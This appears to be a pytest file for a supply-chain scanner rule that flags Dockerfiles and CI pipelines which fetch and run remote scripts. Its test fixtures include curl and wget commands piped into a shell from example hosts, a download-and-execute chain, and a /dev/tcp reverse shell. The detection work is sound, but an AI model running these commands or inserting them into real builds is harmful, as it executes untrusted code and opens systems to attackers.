"""Builds and pipelines that run what they fetch."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.checks.supply_chain.files import DIGEST, file, said, severities
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "supply_chain/remote-script-execution"
CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def positive(directory: Path) -> Path:
    return file(directory, "Dockerfile", "FROM a", "RUN curl -sSL http://203.0.113.5/setup.sh | bash")


def benign(directory: Path) -> Path:
    return file(
        directory,
        "Dockerfile",
        "FROM a",
        "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
        f"ADD --checksum={DIGEST} https://example.org/a.tar.gz /a",
        "RUN curl -fsSL https://example.org/a.tar.gz -o a.tar.gz && sha256sum -c sums && tar xf a.tar.gz",
        "# RUN curl http://203.0.113.5/x | sh",
        "ADD data /data",
    )


CASES = [
    ("FROM a\nRUN curl https://sh.rustup.rs | sh -s -- -y", [MEDIUM]),
    ("FROM a\nRUN wget -qO- http://x.example.org/i | bash", [HIGH]),
    ("FROM a\nRUN set -e; \\\n  # why not\n\n  curl http://x.example.org/i \\\n | sh", [HIGH]),
    ('FROM a\nRUN ["sh", "-c", "curl http://x.example.org/i | sh"]', [HIGH]),
    ("FROM a\nRUN <<EOT bash\nmake\ncurl http://x.example.org/i | sh\nEOT", [HIGH]),
    ("FROM a\nRUN curl http://x.example.org/i -o /tmp/i && chmod +x /tmp/i && /tmp/i", [HIGH]),
    ("FROM a\nRUN bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", [CRITICAL]),
    ("FROM a\nADD http://x.example.org/a /a", [MEDIUM]),
    ("FROM a\nADD https://x.example.org/a /a", [LOW]),
    ("# escape=`\nFROM a\nRUN curl http://x.example.org/i `\n | sh", [HIGH]),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_images(tmp_path: Path, text: str, expected: list[Severity]) -> None:
    assert severities(file(tmp_path, "Dockerfile", text), RULE) == expected


def test_the_line_within_a_heredoc(tmp_path: Path) -> None:
    (found,) = said(file(tmp_path, "Dockerfile", CASES[4][0]), RULE)
    assert found.location.line == 4


STEPS = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"
PIPELINES = [
    ("ci.yml", f"{STEPS}    - run: curl http://x.example.org/i | sh", 6),
    ("ci.yml", f"{STEPS}    - run: |\n        make\n        curl http://x.example.org/i | sh", 8),
    (".gitlab-ci.yml", "t:\n  before_script:\n  - make\n  - curl http://x.example.org/i | sh", 4),
    ("azure-pipelines.yml", "jobs:\n- job: a\n  steps:\n  - bash: curl http://x.example.org/i | sh", 4),
    ("action.yml", "runs:\n  using: x\n  steps:\n  - run: curl http://x.example.org/i | sh\n    shell: bash", 4),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "line"), PIPELINES)
def test_pipelines(tmp_path: Path, name: str, text: str, line: int) -> None:
    (found,) = said(file(tmp_path, name, text), RULE)
    assert found.severity is HIGH
    assert found.location.line == line
